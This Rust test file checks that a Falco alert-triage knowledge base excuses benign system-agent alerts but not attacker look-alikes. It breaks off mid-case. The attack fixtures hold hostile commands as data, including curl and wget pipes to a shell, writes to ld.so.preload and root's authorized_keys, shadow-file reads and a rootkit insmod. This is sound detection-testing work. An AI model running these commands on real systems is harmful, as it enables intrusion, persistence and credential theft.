//! The control-plane, agent, host-service and upstream-allowlist signatures: each one matches a
//! real or realistic benign alert, and does not match the same rule fired by an attacker's
//! process (a look-alike name outside the agent's image, an interactive shell in the agent's pod,
//! a service account of another namespace, a refused request). Attack evidence on the command line
//! vetoes agent and control-plane signatures.

use fa_analyze::kb::{KnowledgeBase, SignatureSource};
use fa_model::Alert;
use serde_json::{json, Value};

fn kb() -> KnowledgeBase {
    KnowledgeBase::builtin().unwrap_or_else(|e| panic!("built-in knowledge base: {e}"))
}

fn alert(rule: &str, fields: Value) -> Alert {
    serde_json::from_value(json!({
        "rule": rule,
        "priority": "Warning",
        "output_fields": fields,
    }))
    .unwrap_or_else(|e| panic!("hand-written alert: {e}"))
}

fn ids(kb: &KnowledgeBase, a: &Alert) -> Vec<String> {
    kb.benign_matches(a, kb.rule_for(a))
        .iter()
        .map(|m| m.id.to_string())
        .collect()
}

/// One signature's benign example and the attacker's look-alikes of it.
struct Case {
    id: &'static str,
    benign: Alert,
    attacks: Vec<(&'static str, Alert)>,
}

fn cases() -> Vec<Case> {
    vec![
        Case {
            id: "k8s-system-component-own-namespace",
            // falcosecurity/falco PR 1555: the controller manager creating a controller's account.
            benign: alert(
                "Service Account Created in Kube Namespace",
                json!({"ka.user.name": "system:kube-controller-manager",
                       "ka.target.name": "pod-garbage-collector", "ka.target.namespace": "kube-system"}),
            ),
            attacks: vec![
                (
                    "a person creating an account in kube-system",
                    alert(
                        "Service Account Created in Kube Namespace",
                        json!({"ka.user.name": "alice@example.com",
                               "ka.target.name": "backdoor", "ka.target.namespace": "kube-system"}),
                    ),
                ),
                (
                    "a look-alike user name",
                    alert(
                        "K8s Secret Created",
                        json!({"ka.user.name": "system:kube-controller-manager-x",
                               "ka.target.name": "x", "ka.target.namespace": "kube-system"}),
                    ),
                ),
                (
                    "the controller manager outside its own namespaces",
                    alert(
                        "K8s Secret Get Successfully",
                        json!({"ka.user.name": "system:kube-controller-manager",
                               "ka.target.name": "db-password", "ka.target.namespace": "payments"}),
                    ),
                ),
                (
                    "an exec, which no signature of this kind covers",
                    alert(
                        "Attach/Exec Pod",
                        json!({"ka.user.name": "system:kube-controller-manager",
                               "ka.target.name": "etcd-0", "ka.target.namespace": "kube-system"}),
                    ),
                ),
            ],
        },
        Case {
            id: "k8s-kube-system-controller-sa",
            benign: alert(
                "K8s Secret Created",
                json!({"ka.user.name": "system:serviceaccount:kube-system:service-account-controller",
                       "ka.target.name": "coredns-token-x7k2p", "ka.target.namespace": "kube-system"}),
            ),
            attacks: vec![
                (
                    "a controller's name in another namespace",
                    alert(
                        "K8s Secret Created",
                        json!({"ka.user.name": "system:serviceaccount:default:service-account-controller",
                               "ka.target.name": "x", "ka.target.namespace": "kube-system"}),
                    ),
                ),
                (
                    "an unlisted kube-system account",
                    alert(
                        "K8s Secret Created",
                        json!({"ka.user.name": "system:serviceaccount:kube-system:tiller",
                               "ka.target.name": "x", "ka.target.namespace": "kube-system"}),
                    ),
                ),
            ],
        },
        Case {
            id: "k8s-controller-cascade-delete",
            benign: alert(
                "K8s Secret Deleted",
                json!({"ka.user.name": "system:serviceaccount:kube-system:namespace-controller",
                       "ka.target.name": "default-token-abcde", "ka.target.namespace": "feature-1234"}),
            ),
            attacks: vec![
                (
                    "a person deleting",
                    alert(
                        "K8s Secret Deleted",
                        json!({"ka.user.name": "mallory",
                               "ka.target.name": "audit-config", "ka.target.namespace": "feature-1234"}),
                    ),
                ),
                (
                    "the namespace controller on a creation rule",
                    alert(
                        "K8s Secret Created",
                        json!({"ka.user.name": "system:serviceaccount:kube-system:namespace-controller",
                               "ka.target.name": "x", "ka.target.namespace": "payments"}),
                    ),
                ),
            ],
        },
        Case {
            id: "kubelet-node-authorizer-scope",
            // falcosecurity/falco#1784: the kubelet requesting a projected service-account token.
            benign: alert(
                "K8s Serviceaccount Created",
                json!({"ka.user.name": "system:node:ip-1-2-3-4.eu-central-1.compute.internal",
                       "ka.target.name": "prometheus-cloudwatch-exporter", "ka.target.namespace": "monitoring",
                       "ka.response.code": "201", "ka.auth.decision": "allow"}),
            ),
            attacks: vec![
                (
                    "a node credential refused another node's secret",
                    alert(
                        "K8s Secret Get Successfully",
                        json!({"ka.user.name": "system:node:ip-1-2-3-4.eu-central-1.compute.internal",
                               "ka.target.name": "db-password", "ka.target.namespace": "payments",
                               "ka.response.code": "403"}),
                    ),
                ),
                (
                    "a node creating a role binding",
                    alert(
                        "K8s RoleBinding Created",
                        json!({"ka.user.name": "system:node:ip-1-2-3-4.eu-central-1.compute.internal",
                               "ka.target.name": "x", "ka.target.namespace": "kube-system",
                               "ka.response.code": "201"}),
                    ),
                ),
            ],
        },
        Case {
            id: "eks-control-plane-identities",
            benign: alert(
                "K8s ConfigMap Created",
                json!({"ka.user.name": "eks:addon-manager",
                       "ka.target.name": "amazon-vpc-cni", "ka.target.namespace": "kube-system"}),
            ),
            attacks: vec![(
                "an eks-like user acting in an application namespace",
                alert(
                    "K8s Secret Get Successfully",
                    json!({"ka.user.name": "eks:addon-manager",
                           "ka.target.name": "stripe-key", "ka.target.namespace": "payments"}),
                ),
            )],
        },
        Case {
            id: "openshift-platform-operator",
            benign: alert(
                "K8s ConfigMap Created",
                json!({"ka.user.name": "system:serviceaccount:openshift-monitoring:prometheus-operator",
                       "ka.target.name": "prometheus-k8s-rulefiles-0", "ka.target.namespace": "openshift-monitoring"}),
            ),
            attacks: vec![(
                "an operator account reaching into an application namespace",
                alert(
                    "K8s Secret Get Successfully",
                    json!({"ka.user.name": "system:serviceaccount:openshift-monitoring:prometheus-operator",
                           "ka.target.name": "db", "ka.target.namespace": "payments"}),
                ),
            )],
        },
        Case {
            id: "rancher-cattle-agent",
            benign: alert(
                "K8s Secret Created",
                json!({"ka.user.name": "system:serviceaccount:cattle-system:cattle",
                       "ka.target.name": "cattle-credentials-abc", "ka.target.namespace": "cattle-system"}),
            ),
            attacks: vec![(
                "Rancher's account in kube-system",
                alert(
                    "K8s Secret Created",
                    json!({"ka.user.name": "system:serviceaccount:cattle-system:cattle",
                           "ka.target.name": "x", "ka.target.namespace": "kube-system"}),
                ),
            )],
        },
        Case {
            id: "logging-agent-state-files",
            // falcosecurity/falco#684: GKE's fluentd rewriting its position file under /var/log.
            benign: alert(
                "Clear Log Activities",
                json!({"proc.cmdline": "pos_writer.rb:* -Eascii-8bit:ascii-8bit /usr/sbin/google-fluentd --under-supervisor",
                       "fd.name": "/var/log/gcp-journald-kubelet.pos",
                       "container.image.repository": "gcr.io/stackdriver-agents/stackdriver-logging-agent",
                       "user.name": "root"}),
            ),
            attacks: vec![
                (
                    "the shipper's image truncating a real log",
                    alert(
                        "Clear Log Activities",
                        json!({"proc.name": "fluent-bit", "fd.name": "/var/log/auth.log",
                               "container.image.repository": "fluent/fluent-bit"}),
                    ),
                ),
                (
                    "a binary named fluent-bit outside any shipper image",
                    alert(
                        "Clear Log Activities",
                        json!({"proc.name": "fluent-bit", "proc.cmdline": "fluent-bit",
                               "fd.name": "/var/log/flb_kube.db",
                               "container.image.repository": "docker.io/attacker/tools"}),
                    ),
                ),
            ],
        },
        Case {
            id: "logging-agent-k8s-metadata",
            benign: alert(
                "Contact K8S API Server From Container",
                json!({"proc.name": "fluent-bit", "proc.exepath": "/fluent-bit/bin/fluent-bit",
                       "fd.name": "10.1.96.24:52342->10.152.183.1:443",
                       "container.image.repository": "cr.fluentbit.io/fluent/fluent-bit",
                       "k8s.ns.name": "logging"}),
            ),
            attacks: vec![
                (
                    "kubectl exec then curl in the shipper's pod",
                    alert(
                        "Contact K8S API Server From Container",
                        json!({"proc.name": "curl", "proc.pname": "sh", "proc.aname[2]": "runc",
                               "fd.name": "10.1.96.24:52342->10.152.183.1:443",
                               "container.image.repository": "cr.fluentbit.io/fluent/fluent-bit"}),
                    ),
                ),
                (
                    "a process named fluent-bit in an unrelated image",
                    alert(
                        "Contact K8S API Server From Container",
                        json!({"proc.name": "fluent-bit", "container.image.repository": "ghcr.io/evil/fluent-bit-ish"}),
                    ),
                ),
            ],
        },
        Case {
            id: "monitoring-agent",
            benign: alert(
                "Container Access to Host Sensitive Paths",
                json!({"proc.name": "node_exporter", "proc.exepath": "/bin/node_exporter",
                       "fd.name": "/host/proc/1/mountinfo",
                       "container.image.repository": "quay.io/prometheus/node-exporter"}),
            ),
            attacks: vec![(
                "an interactive shell in the exporter's pod",
                alert(
                    "Container Access to Host Sensitive Paths",
                    json!({"proc.name": "cat", "proc.pname": "bash", "proc.aname[2]": "runc",
                           "fd.name": "/host/etc/shadow",
                           "container.image.repository": "quay.io/prometheus/node-exporter"}),
                ),
            )],
        },
        Case {
            id: "cni-agent",
            benign: alert(
                "Write below etc",
                json!({"proc.name": "install", "proc.pname": "calico-node",
                       "fd.name": "/host/etc/cni/net.d/10-calico.conflist",
                       "container.image.repository": "docker.io/calico/cni"}),
            ),
            attacks: vec![(
                "a person's shell in the CNI pod",
                alert(
                    "Write below etc",
                    json!({"proc.name": "sh", "proc.pname": "runc", "proc.cmdline": "sh",
                           "fd.name": "/host/etc/cni/net.d/10-calico.conflist",
                           "container.image.repository": "docker.io/calico/cni"}),
                ),
            )],
        },
        Case {
            id: "kube-proxy-node-rules",
            benign: alert(
                "Packet socket created in container",
                json!({"proc.name": "iptables-restor", "proc.pname": "kube-proxy",
                       "proc.cmdline": "iptables-restore -w 5 -W 100000 --noflush --counters",
                       "container.image.repository": "registry.k8s.io/kube-proxy", "k8s.ns.name": "kube-system"}),
            ),
            attacks: vec![(
                "a shell exec'd into the kube-proxy pod",
                alert(
                    "Packet socket created in container",
                    json!({"proc.name": "tcpdump", "proc.pname": "sh", "proc.aname[2]": "runc",
                           "container.image.repository": "registry.k8s.io/kube-proxy"}),
                ),
            )],
        },
        Case {
            id: "csi-node-plugin",
            benign: alert(
                "Mount Launched in Privileged Container",
                json!({"proc.name": "mount", "proc.pname": "aws-ebs-csi-dri",
                       "proc.cmdline": "mount -t ext4 -o defaults /dev/nvme1n1 /var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/abc/globalmount",
                       "container.image.repository": "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver",
                       "k8s.ns.name": "kube-system"}),
            ),
            attacks: vec![(
                "mount from an interactive shell in the driver's pod",
                alert(
                    "Mount Launched in Privileged Container",
                    json!({"proc.name": "mount", "proc.pname": "bash", "proc.aname[2]": "runc",
                           "proc.cmdline": "mount /dev/nvme0n1p1 /mnt",
                           "container.image.repository": "public.ecr.aws/ebs-csi-driver/aws-ebs-csi-driver"}),
                ),
            )],
        },
        Case {
            id: "gke-node-agent",
            benign: alert(
                "Contact cloud metadata service from container",
                json!({"proc.name": "gke-metadata-se", "proc.exepath": "/gke-metadata-server",
                       "container.image.repository": "gke.gcr.io/gke-metadata-server",
                       "k8s.ns.name": "kube-system"}),
            ),
            attacks: vec![
                (
                    "Google's image deployed into an application namespace",
                    alert(
                        "Contact cloud metadata service from container",
                        json!({"proc.name": "gke-metadata-se",
                               "container.image.repository": "gke.gcr.io/gke-metadata-server",
                               "k8s.ns.name": "default"}),
                    ),
                ),
                (
                    "a look-alike registry",
                    alert(
                        "Contact cloud metadata service from container",
                        json!({"proc.name": "gke-metadata-se",
                               "container.image.repository": "gcr.io/attacker/gke-metadata-server",
                               "k8s.ns.name": "kube-system"}),
                    ),
                ),
            ],
        },
        Case {
            id: "eks-node-agent",
            benign: alert(
                "Change thread namespace",
                json!({"proc.name": "aws-k8s-agent", "proc.exepath": "/app/aws-k8s-agent",
                       "container.image.repository": "602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni",
                       "k8s.ns.name": "kube-system"}),
            ),
            attacks: vec![(
                "the same name from someone else's ECR account",
                alert(
                    "Change thread namespace",
                    json!({"proc.name": "aws-k8s-agent",
                           "container.image.repository": "123456789012.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni",
                           "k8s.ns.name": "kube-system"}),
                ),
            )],
        },
        Case {
            id: "aks-node-agent",
            benign: alert(
                "Launch Privileged Container",
                json!({"proc.name": "azure-cns", "container.image.repository": "mcr.microsoft.com/containernetworking/azure-cns",
                       "k8s.ns.name": "kube-system"}),
            ),
            attacks: vec![(
                "Microsoft's image in an application namespace",
                alert(
                    "Launch Privileged Container",
                    json!({"proc.name": "azure-cns", "container.image.repository": "mcr.microsoft.com/containernetworking/azure-cns",
                           "k8s.ns.name": "default"}),
                ),
            )],
        },
        Case {
            id: "falcoctl-artifacts",
            benign: alert(
                "Write below etc",
                json!({"proc.name": "falcoctl", "proc.cmdline": "falcoctl artifact follow --allowed-types=rulesfile",
                       "fd.name": "/etc/falco/falco_rules.yaml",
                       "container.image.repository": "docker.io/falcosecurity/falcoctl"}),
            ),
            attacks: vec![(
                "a shell in the falcoctl sidecar rewriting the rules",
                alert(
                    "Write below etc",
                    json!({"proc.name": "sh", "proc.pname": "runc", "proc.cmdline": "sh",
                           "fd.name": "/etc/falco/falco_rules.yaml",
                           "container.image.repository": "docker.io/falcosecurity/falcoctl"}),
                ),
            )],
        },
        Case {
            id: "falco-driver-loader",
            benign: alert(
                "Linux Kernel Module Injection Detected",
                json!({"proc.name": "insmod", "proc.pname": "falco-driver-lo",
                       "proc.cmdline": "insmod /root/.falco/falco.ko",
                       "container.image.repository": "docker.io/falcosecurity/falco-driver-loader"}),
            ),
            attacks: vec![(
                "insmod from a shell in the loader image",
                alert(
                    "Linux Kernel Module Injection Detected",
                    json!({"proc.name": "insmod", "proc.pname": "bash", "proc.aname[2]": "runc",
                           "proc.cmdline": "insmod /tmp/rootkit.ko",
                           "container.image.repository": "docker.io/falcosecurity/falco-driver-loader"}),
                ),
            )],
        },
        Case {
            id: "falco-own-process",
            benign: alert(
                "Container Access to Host Sensitive Paths",
                json!({"proc.name": "falco", "proc.exepath": "/usr/bin/falco", "fd.name": "/host/proc/1/cgroup",
                       "container.image.repository": "docker.io/falcosecurity/falco"}),
            ),
            attacks: vec![(
                "cat in the Falco pod",
                alert(
                    "Container Access to Host Sensitive Paths",
                    json!({"proc.name": "cat", "proc.exepath": "/usr/bin/cat", "fd.name": "/host/etc/shadow",
                           "container.image.repository": "docker.io/falcosecurity/falco"}),
                ),
            )],
        },
        Case {
            id: "falcosidekick-forwarding",
            benign: alert(
                "Contact K8S API Server From Container",
                json!({"proc.name": "falcosidekick",
                       "container.image.repository": "docker.io/falcosecurity/falcosidekick"}),
            ),
            attacks: vec![(
                "curl in the falcosidekick pod",
                alert(
                    "Contact K8S API Server From Container",
                    json!({"proc.name": "curl", "proc.pname": "sh",
                           "container.image.repository": "docker.io/falcosecurity/falcosidekick"}),
                ),
            )],
        },
        Case {
            id: "systemd-account-services",
            benign: alert(
                "Read sensitive file untrusted",
                json!({"proc.name": "systemd-userwor", "proc.exepath": "/usr/lib/systemd/systemd-userwork",
                       "fd.name": "/etc/shadow", "user.name": "root", "user.uid": 0, "container.id": "host"}),
            ),
            attacks: vec![(
                "a copy named like the service elsewhere",
                alert(
                    "Read sensitive file untrusted",
                    json!({"proc.name": "systemd-userdbd", "proc.exepath": "/tmp/.x/systemd-userdbd",
                           "fd.name": "/etc/shadow", "user.name": "root", "container.id": "host"}),
                ),
            )],
        },
        Case {
            id: "sshd-password-check",
            benign: alert(
                "Read sensitive file trusted after startup",
                json!({"proc.name": "sshd", "proc.exepath": "/usr/sbin/sshd", "fd.name": "/etc/shadow",
                       "user.name": "root"}),
            ),
            attacks: vec![(
                "a process named sshd from /dev/shm",
                alert(
                    "Read sensitive file trusted after startup",
                    json!({"proc.name": "sshd", "proc.exepath": "/dev/shm/sshd", "fd.name": "/etc/shadow"}),
                ),
            )],
        },
        Case {
            id: "pam-unix-chkpwd",
            benign: alert(
                "Read sensitive file untrusted",
                json!({"proc.name": "unix_chkpwd", "proc.exepath": "/usr/sbin/unix_chkpwd", "fd.name": "/etc/shadow"}),
            ),
            attacks: vec![(
                "cat renamed unix_chkpwd",
                alert(
                    "Read sensitive file untrusted",
                    json!({"proc.name": "unix_chkpwd", "proc.exepath": "/tmp/unix_chkpwd", "fd.name": "/etc/shadow"}),
                ),
            )],
        },
        Case {
            id: "package-maintainer-script",
            // falcosecurity/falco PR 445: postfix's postinst running postconf under dpkg and apt-get.
            benign: alert(
                "Write below etc",
                json!({"proc.name": "postconf", "proc.cmdline": "postconf -e inet_protocols=all",
                       "proc.pname": "postfix.postins",
                       "proc.pcmdline": "postfix.postins -e /var/lib/dpkg/info/postfix.postinst configure",
                       "proc.aname[2]": "frontend", "proc.aname[3]": "dpkg", "proc.aname[4]": "apt-get",
                       "fd.name": "/etc/postfix/main.cf.tmp"}),
            ),
            attacks: vec![(
                "a shell started from apt (e.g. an APT hook) writing /etc",
                alert(
                    "Write below etc",
                    json!({"proc.name": "tee", "proc.cmdline": "tee /etc/ld.so.preload",
                           "proc.pname": "sh", "proc.pcmdline": "sh -c tee /etc/ld.so.preload",
                           "proc.aname[2]": "apt-get", "fd.name": "/etc/ld.so.preload"}),
                ),
            )],
        },
        Case {
            id: "runc-exec-fifo",
            // falcosecurity/falco#738.
            benign: alert(
                "Write below root",
                json!({"proc.cmdline": "runc:[1:CHILD] init", "fd.name": "/exec.fifo", "container.id": "host"}),
            ),
            attacks: vec![(
                "the same process name writing elsewhere",
                alert(
                    "Write below root",
                    json!({"proc.cmdline": "runc:[1:CHILD] init", "fd.name": "/root/.ssh/authorized_keys"}),
                ),
            )],
        },
        Case {
            id: "amazon-linux-motd-yum",
            // falcosecurity/falco#745.
            benign: alert(
                "Write below rpm database",
                json!({"proc.cmdline": "python -c import yum; y=yum.YumBase(); y.doConfigSetup(init_plugins=False); print(y.conf.yumvar)",
                       "proc.pcmdline": "python -m amazon_linux_extras system_motd", "proc.pname": "python",
                       "fd.name": "/var/lib/rpm/__db.003", "container.id": "host"}),
            ),
            attacks: vec![(
                "another python parent",
                alert(
                    "Write below rpm database",
                    json!({"proc.cmdline": "python -c import yum; open('/var/lib/rpm/Packages','w')",
                           "proc.pcmdline": "python /tmp/x.py", "fd.name": "/var/lib/rpm/Packages"}),
                ),
            )],
        },
        Case {
            id: "passwd-backup-compare",
            benign: alert(
                "Read sensitive file untrusted",
                json!({"proc.name": "cmp", "proc.cmdline": "cmp -s shadow.bak /etc/shadow", "proc.pname": "run-parts",
                       "fd.name": "/etc/shadow", "user.name": "root"}),
            ),
            attacks: vec![(
                "cmp from an interactive shell",
                alert(
                    "Read sensitive file untrusted",
                    json!({"proc.name": "cmp", "proc.cmdline": "cmp -s /tmp/x /etc/shadow", "proc.pname": "bash",
                           "fd.name": "/etc/shadow"}),
                ),
            )],
        },
        Case {
            id: "kured-reboot-check",
            // elastisys/compliantkubernetes-apps#1120: kured checking the reboot sentinel.
            benign: alert(
                "Change thread namespace",
                json!({"proc.cmdline": "nsenter -m/proc/1/ns/mnt -- test -f /var/run/reboot-required",
                       "proc.pname": "kured", "container.image.repository": "docker.io/weaveworks/kured",
                       "k8s.ns.name": "kured"}),
            ),
            attacks: vec![(
                "a shell in the host's mount namespace from the kured pod",
                alert(
                    "Change thread namespace",
                    json!({"proc.cmdline": "nsenter -m/proc/1/ns/mnt -- bash",
                           "proc.pname": "kured", "container.image.repository": "docker.io/weaveworks/kured"}),
                ),
            )],
        },
        Case {
            id: "prometheus-config-reloader",
            // falcosecurity/falco#462.
            benign: alert(
                "Write below etc",
                json!({"proc.cmdline": "prometheus-conf --log-format=logfmt --reload-url=http://127.0.0.1:9090/-/reload --config-file=/etc/prometheus/config/prometheus.yaml --config-envsubst-file=/etc/prometheus/config_out/prometheus.env.yaml",
                       "fd.name": "/etc/prometheus/config_out/prometheus.env.yaml"}),
            ),
            attacks: vec![(
                "the reloader's name writing outside config_out",
                alert(
                    "Write below etc",
                    json!({"proc.name": "prometheus-conf", "fd.name": "/etc/ld.so.preload"}),
                ),
            )],
        },
        Case {
            id: "docker-layer-unpack",
            benign: alert(
                "Write below etc",
                json!({"proc.name": "exe", "proc.pname": "dockerd", "fd.name": "/etc/group",
                       "proc.cmdline": "exe /var/lib/docker/overlay2/b96d5259b14161da7fe7f3f0c036d723bbd937bc83cf6abdcac850210c397759/diff",
                       "container.id": "host"}),
            ),
            attacks: vec![(
                "a binary named exe under a shell",
                alert(
                    "Write below etc",
                    json!({"proc.name": "exe", "proc.pname": "bash", "fd.name": "/etc/group",
                           "proc.cmdline": "exe /var/lib/docker/x", "container.id": "host"}),
                ),
            )],
        },
        Case {
            id: "kops-protokube-nsenter",
            // falcosecurity/falco#1285.
            benign: alert(
                "Change thread namespace",
                json!({"proc.cmdline": "nsenter --mount=/rootfs/proc/1/ns/mnt -- systemctl status --no-block kubelet",
                       "proc.pname": "protokube", "container.image.repository": "protokube",
                       "container.id": "2dd99ef65177", "user.name": "root"}),
            ),
            attacks: vec![(
                "a shell in the host's mount namespace",
                alert(
                    "Change thread namespace",
                    json!({"proc.cmdline": "nsenter --mount=/rootfs/proc/1/ns/mnt -- sh",
                           "proc.pname": "protokube", "container.image.repository": "protokube"}),
                ),
            )],
        },
        // --- Older outputs (fewer fields): each case is a real published line's fields. ---
        Case {
            id: "event-generator-legacy-image",
            // falcosecurity/falco#534.
            benign: alert(
                "DB program spawned process",
                json!({"proc.name": "ls", "proc.pname": "mysqld", "user.name": "root",
                       "container.image.repository": "sysdig/falco-event-generator"}),
            ),
            attacks: vec![(
                "an image merely named like it",
                alert(
                    "DB program spawned process",
                    json!({"proc.name": "ls", "proc.pname": "mysqld",
                           "container.image.repository": "evil/falco-event-generator-miner"}),
                ),
            )],
        },
        Case {
            id: "falcoctl-artifacts-host",
            benign: alert(
                "Write below etc",
                json!({"proc.cmdline": "falcoctl artifact follow --allowed-types=rulesfile",
                       "fd.name": "/etc/falco/._check_writable", "container.id": "host"}),
            ),
            attacks: vec![
                (
                    "falcoctl's name writing elsewhere in /etc",
                    alert(
                        "Write below etc",
                        json!({"proc.cmdline": "falcoctl artifact follow", "fd.name": "/etc/cron.d/x"}),
                    ),
                ),
                (
                    "a shell writing Falco's directory",
                    alert(
                        "Write below etc",
                        json!({"proc.cmdline": "sh -c echo > /etc/falco/falco_rules.local.yaml",
                               "fd.name": "/etc/falco/falco_rules.local.yaml"}),
                    ),
                ),
            ],
        },
        Case {
            id: "systemd-account-services-comm",
            benign: alert(
                "Read sensitive file untrusted",
                json!({"proc.name": "systemd-userwor", "proc.pname": "systemd-userdbd",
                       "fd.name": "/etc/shadow", "container.id": "host"}),
            ),
            attacks: vec![(
                "the worker's name under a shell",
                alert(
                    "Read sensitive file untrusted",
                    json!({"proc.name": "systemd-userwor", "proc.pname": "bash", "fd.name": "/etc/shadow"}),
                ),
            )],
        },
        Case {
            id: "passwd-backup-compare-quiet",
            // falcosecurity/falco PR 171 / 192.
            benign: alert(
                "Read sensitive file untrusted",
                json!({"proc.name": "cmp", "proc.cmdline": "cmp -s shadow.bak /etc/shadow",
                       "fd.name": "/etc/shadow"}),
            ),
            attacks: vec![(
                "cmp printing the differences",
                alert(
                    "Read sensitive file untrusted",
                    json!({"proc.name": "cmp", "proc.cmdline": "cmp -l shadow.bak /etc/shadow",
                           "fd.name": "/etc/shadow"}),
                ),
            )],
        },
        Case {
            id: "docker-layer-unpack-path",
            // falcosecurity/falco PR 947.
            benign: alert(
                "Write below etc",
                json!({"proc.cmdline": "exe /var/lib/docker/overlay2/b96d5259b14161da7fe7f3f0c036d723bbd937bc83cf6abdcac850210c397759/diff",
                       "proc.pname": null, "fd.name": "/etc/group", "container.id": "host"}),
            ),
            attacks: vec![(
                "an `exe` with another argument",
                alert(
                    "Write below etc",
                    json!({"proc.cmdline": "exe /var/lib/docker/../../etc", "fd.name": "/etc/group",
                           "container.id": "host"}),
                ),
            )],
        },
        Case {
            id: "kernel-package-maintainer-script",
            // falcosecurity/falco PR 200.
            benign: alert(
                "Run shell untrusted",
                json!({"proc.name": "sh", "proc.pname": "linux-image-4.4",
                       "proc.cmdline": "sh -c /usr/sbin/update-initramfs -c -k 4.4.0-53-generic >&2"}),
            ),
            attacks: vec![
                (
                    "a download under the same parent name",
                    alert(
                        "Run shell untrusted",
                        json!({"proc.name": "sh", "proc.pname": "linux-image-4.4",
                               "proc.cmdline": "sh -c curl http://x/boot/a | sh"}),
                    ),
                ),
                (
                    "the commands under another parent",
                    alert(
                        "Run shell untrusted",
                        json!({"proc.name": "sh", "proc.pname": "nginx",
                               "proc.cmdline": "sh -c /usr/sbin/update-initramfs -u"}),
                    ),
                ),
            ],
        },
        Case {
            id: "kernel-upgrade-hook",
            benign: alert(
                "Write below etc",
                json!({"proc.name": "apt-auto-remova",
                       "proc.cmdline": "apt-auto-remova /etc/kernel/postinst.d/apt-auto-removal 4.4.0-53-generic /boot/vmlinuz-4.4.0-53-generic",
                       "fd.name": "/etc/apt/apt.conf.d/01autoremove-kernels.dpkg-new"}),
            ),
            attacks: vec![(
                "a hook path with a chained command",
                alert(
                    "Write below etc",
                    json!({"proc.cmdline": "sh /etc/kernel/postinst.d/x 1; curl x /boot/vmlinuz-1",
                           "fd.name": "/etc/passwd"}),
                ),
            )],
        },
        Case {
            id: "erlang-port-helper-shell",
            // falcosecurity/falco PR 221.
            benign: alert(
                "Run shell untrusted",
                json!({"proc.name": "sh", "proc.pname": "erl_child_setup",
                       "proc.cmdline": "sh -c exec /bin/sh -s unix:cmd"}),
            ),
            attacks: vec![(
                "another command under the Erlang helper",
                alert(
                    "Run shell untrusted",
                    json!({"proc.name": "sh", "proc.pname": "erl_child_setup",
                           "proc.cmdline": "sh -c wget -qO- http://x | sh"}),
                ),
            )],
        },
        Case {
            id: "cfengine-agent",
            // falcosecurity/falco#3120.
            benign: alert(
                "Write below root",
                json!({"proc.name": "cf-agent", "proc.pname": "cf-execd",
                       "fd.name": "/etc/sssd/cf_lock.lmdb.lock"}),
            ),
            attacks: vec![(
                "cf-agent's name under a shell",
                alert(
                    "Write below root",
                    json!({"proc.name": "cf-agent", "proc.pname": "bash", "fd.name": "/root/.ssh/x"}),
                ),
            )],
        },
        Case {
            id: "falco-syscall-drop-report",
            benign: alert(
                "Falco internal: syscall event drop",
                json!({"n_drops": "1", "n_drops_buffer": "1", "n_evts": "33814"}),
            ),
            attacks: vec![(
                "the rule's name without Falco's counters",
                alert(
                    "Falco internal: syscall event drop",
                    json!({"proc.cmdline": "sh"}),
                ),
            )],
        },
        Case {
            id: "snapd-update-ns",
            // elastisys/compliantkubernetes-apps#898.
            benign: alert(
                "Change thread namespace",
                json!({"proc.cmdline": "snap-update-ns lxd", "proc.pname": "snapd", "container.id": "host"}),
            ),
            attacks: vec![(
                "the name with a command chained",
                alert(
                    "Change thread namespace",
                    json!({"proc.cmdline": "snap-update-ns lxd; sh", "proc.pname": "snapd"}),
                ),
            )],
        },
        Case {
            id: "go-toolchain-module-cache",
            // falcosecurity/falco#1275.
            benign: alert(
                "Container Drift Detected (chmod)",
                json!({"proc.cmdline": "go build -o event-generator .",
                       "evt.arg.filename": "/go/pkg/mod/k8s.io/kubectl@v0.17.3/testdata/set"}),
            ),
            attacks: vec![(
                "a binary dropped outside the caches",
                alert(
                    "Container Drift Detected (chmod)",
                    json!({"proc.cmdline": "go build -o /usr/local/bin/x .",
                           "evt.arg.filename": "/usr/local/bin/x"}),
                ),
            )],
        },
        Case {
            id: "cloud-init-ssh-keys",
            // falcosecurity/falco PR 445.
            benign: alert(
                "Write below monitored dir",
                json!({"proc.cmdline": "cloud-init /usr/bin/cloud-init init",
                       "fd.name": "/root/.ssh/authorized_keys"}),
            ),
            attacks: vec![(
                "a shell appending a key",
                alert(
                    "Write below monitored dir",
                    json!({"proc.cmdline": "sh -c echo key >> /root/.ssh/authorized_keys",
                           "fd.name": "/root/.ssh/authorized_keys"}),
                ),
            )],
        },
        Case {
            id: "kube-proxy-privileged",
            benign: alert(
                "Launch Privileged Container",
                json!({"k8s.ns.name": "kube-system", "k8s.pod.name": "kube-proxy-v2ffs",
                       "container.image.repository": "k8s.gcr.io/pause"}),
            ),
            attacks: vec![
                (
                    "a kube-proxy-named pod in another namespace",
                    alert(
                        "Launch Privileged Container",
                        json!({"k8s.ns.name": "default", "k8s.pod.name": "kube-proxy-abcde",
                               "container.image.repository": "k8s.gcr.io/pause"}),
                    ),
                ),
                (
                    "another image in a kube-proxy-named pod",
                    alert(
                        "Launch Privileged Container",
                        json!({"k8s.ns.name": "kube-system", "k8s.pod.name": "kube-proxy-abcde",
                               "container.image.repository": "alpine"}),
                    ),
                ),
            ],
        },
        Case {
            id: "fluentd-k8s-metadata-cmdline",
            // falcosecurity/falco#1435.
            benign: alert(
                "Contact K8S API Server From Container",
                json!({"proc.cmdline": "event_loop -Eascii-8bit:ascii-8bit /usr/local/bundle/bin/fluentd -c /fluentd/etc/fluent.conf -p /fluentd/plugins --under-supervisor"}),
            ),
            attacks: vec![(
                "curl to the API server",
                alert(
                    "Contact K8S API Server From Container",
                    json!({"proc.cmdline": "curl -k https://kubernetes.default/api/v1/secrets"}),
                ),
            )],
        },
        Case {
            id: "fission-fetcher",
            benign: alert(
                "Contact K8S API Server From Container",
                json!({"proc.cmdline": "fetcher -secret-dir /secrets -cfgmap-dir /configs",
                       "container.image.repository": "fission/fetcher"}),
            ),
            attacks: vec![(
                "a shell in the fetcher image",
                alert(
                    "Contact K8S API Server From Container",
                    json!({"proc.cmdline": "sh -c curl https://kubernetes.default",
                           "container.image.repository": "fission/fetcher"}),
                ),
            )],
        },
        Case {
            id: "deckhouse-operator-disk-check",
            // deckhouse/deckhouse PR 9189.
            benign: alert(
                "Attach/Exec Pod",
                json!({"ka.user.name": "system:serviceaccount:d8-system:deckhouse",
                       "ka.uri.param[command]": "df", "ka.target.name": "prometheus-main-0"}),
            ),
            attacks: vec![(
